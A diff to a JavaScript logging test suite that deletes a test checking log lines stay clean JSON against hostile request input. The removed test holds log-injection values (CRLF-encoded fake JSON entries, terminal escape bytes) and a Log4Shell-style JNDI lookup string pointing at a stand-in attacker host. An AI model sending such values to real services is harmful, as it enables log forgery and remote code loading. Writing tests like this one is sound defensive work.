@@ -61,21 +61,4 @@ describe('the log', () => {
     expect(api.logLines.length).toBeGreaterThanOrEqual(8);
     expect(log).not.toContain(key.slice(4, 20));
   });
-
-  it('stays one line of JSON for each event, whatever a request holds (79)', async () => {
-    const headers = {
-      'x-webhook-url': 'https://a/%0d%0a{"level":"error"}',
-      'x-request-id': 'a\u009b31mb',
-      'user-agent': '${jndi:ldap://evil.example}',
-    };
-    await api.get('/company/acme%0a%0d%1b[31m.com', { ...caller, headers });
-    await api.get('/nothing%0a{"level":"error"}', { ...caller, headers });
-    for (const line of api.logLines) {
-      expect(line).toMatch(/^\{[^\n\u001b]*\}\n$/);
-      expect(JSON.parse(line)).toMatchObject({
-        service: 'api',
-        level: expect.stringMatching(/^(info|warn)$/),
-      });
-    }
-  });
 });
